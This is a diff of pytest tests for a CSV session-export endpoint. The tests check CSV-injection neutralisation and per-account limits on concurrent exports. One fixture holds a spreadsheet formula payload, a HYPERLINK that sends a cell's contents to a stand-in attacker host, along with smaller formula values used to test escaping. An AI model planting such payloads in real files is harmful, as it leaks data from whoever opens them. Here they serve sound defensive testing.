@@ -18,6 +18,8 @@ import pytest
 from click.testing import CliRunner
 from fastapi.testclient import TestClient
 
+from console.routers import exports
+from console.routers.exports import MAX_CONCURRENT_EXPORTS, MAX_EXPORTS_PER_ACCOUNT, ExportSlots
 from consumers.clickhouse import Client, migrate
 from consumers.clickhouse.reconcile import ReconcileRun, RepairBatch, SessionVoid, apply_batch
 from pipeline import traffic
@@ -25,6 +27,7 @@ from pipeline.cli import main
 from pipeline.decode import to_ms
 from pipeline.sessions_export import SESSION_COLUMNS
 from tests.console_support import bearer, console_settings, fill, http, make_app, token
+from tests.support import Conversation, in_time_order, wait_until
 
 SHAPE = traffic.TrafficShape(accounts=2, apps_per_account=3, conversations_per_minute=0.05)
 T0 = to_ms(datetime(2026, 5, 1, 10, tzinfo=UTC))
@@ -146,3 +149,92 @@ def test_the_limit_can_be_raised_and_another_accounts_app_is_404(chdb_client: Cl
         assert rows
         status, _, _ = export(c, **{"app": "app-01-0"})
         assert status == 404
+
+
+# -- spreadsheet formulas (CSV injection) -----------------------------------------------------------------------------
+
+
+def test_text_that_a_spreadsheet_would_run_is_neutralised_as_compute_writes_it(
+    chdb_client: Client, database: str, tmp_path: Path
+) -> None:
+    """user_id, channel, app and conversation ids come from end users' platforms: a cell starting with
+    = + - @ (or a tab or CR) would run as a formula when the admin opens the export. The export writes it
+    with a leading ' (OWASP), as `metering compute --sessions` does; bot_ms and agent_ms stay numbers."""
+    import json  # noqa: PLC0415
+
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    events = [
+        *Conversation("c-evil", app_id="acme-bot", account_id=ACCOUNT, user_id=evil).user(0).bot(1).events,
+        *Conversation("-c2", app_id="+app", account_id=ACCOUNT, user_id="@sum(1)", channel="\tweb")
+        .user(0)
+        .bot(2)
+        .events,
+        *Conversation("c-3", app_id="acme-bot", account_id=ACCOUNT, user_id="-42").user(0).bot(1).events,
+    ]
+    events = in_time_order(events)
+    fill(chdb_client, database, events)
+    path = tmp_path / "events.jsonl"
+    path.write_text("".join(json.dumps(e) + "\n" for e in events))
+    with http(make_app(chdb_client, database, console_settings(now=datetime(2026, 11, 2, tzinfo=UTC)))) as c:
+        status, rows, answer = export(c, **{"from": "2026-11-01", "to": "2026-11-01"})
+    assert status == 200, answer.text
+    assert len(rows) == 3
+    for row in rows:
+        for column, value in row.items():
+            live = value.startswith(("=", "+", "@", "\t", "\r")) or (value.startswith("-") and value != "-42")
+            assert not live, f"{column}={value!r} is a live formula in a spreadsheet"
+    by_user = {r["user_id"]: r for r in rows}
+    assert set(by_user) == {"'" + evil, "'@sum(1)", "-42"}, "a plain number is not a formula: it stays as it is"
+    odd = by_user["'@sum(1)"]
+    assert (odd["app_id"], odd["channel"]) == ("'+app", "'\tweb")
+    assert int(odd["bot_ms"]) > 0
+    assert not odd["agent_ms"].startswith("'")
+    assert "\"'=HYPERLINK(" in answer.text, "the CSV quotes the text cell"
+    expected = compute_sessions(path, "2026-11-01", "2026-11-01", "UTC")
+    assert sorted(rows, key=lambda r: r["billing_session_id"]) == sorted(
+        expected, key=lambda r: r["billing_session_id"]
+    ), "the export and its oracle neutralise alike"
+
+
+# -- how many exports at once ---------------------------------------------------------------------------------------
+
+
+def test_export_slots_per_account_and_in_all() -> None:
+    slots = ExportSlots(total=3, per_account=2)
+    assert slots.take("acme") is None
+    assert slots.take("acme") is None
+    assert "of this account" in (slots.take("acme") or "")
+    assert slots.take("globex") is None, "one account's exports never take every slot"
+    assert "as many exports as it can" in (slots.take("initech") or "")
+    slots.give_back("acme")
+    assert slots.take("initech") is None
+    slots.give_back("acme")
+    slots.give_back("globex")
+    slots.give_back("initech")
+    assert all(slots.take(a) is None for a in ("a", "b", "c"))
+
+
+def test_one_accounts_slow_exports_do_not_lock_the_others_out(
+    chdb_client: Client, export_db: str, client: TestClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Two exports of acct-00 still downloading (slow clients) hold their slots: a third of acct-00 is 429, an export
+    of acct-01 runs; with every slot taken anyone gets 429 with Retry-After; a finished export gives its slot back."""
+    slots = ExportSlots()
+    monkeypatch.setattr(exports, "_slots", slots)
+    for _ in range(MAX_EXPORTS_PER_ACCOUNT):
+        assert slots.take(ACCOUNT) is None  # downloading
+    params = {"from": "2026-05-01", "to": "2026-05-01"}
+    mine = client.get("/api/v1/sessions.csv", params=params, headers=bearer(token(ACCOUNT)))
+    assert mine.status_code == 429
+    assert mine.headers["retry-after"] == "10"
+    assert "of this account" in mine.json()["error"]
+    theirs = client.get("/api/v1/sessions.csv", params=params, headers=bearer(token("acct-01")))
+    assert theirs.status_code == 200, theirs.text
+    assert len(theirs.text.splitlines()) > 1
+    wait_until(lambda: slots.running() == {ACCOUNT: MAX_EXPORTS_PER_ACCOUNT}, 30, "the finished export's slot back")
+    for n in range(MAX_CONCURRENT_EXPORTS - MAX_EXPORTS_PER_ACCOUNT):
+        assert slots.take(f"busy-{n}") is None
+    full = client.get("/api/v1/sessions.csv", params=params, headers=bearer(token("acct-01")))
+    assert full.status_code == 429, "the console's own cap still holds"
+    slots.give_back(ACCOUNT)
+    assert client.get("/api/v1/sessions.csv", params=params, headers=bearer(token(ACCOUNT))).status_code == 200
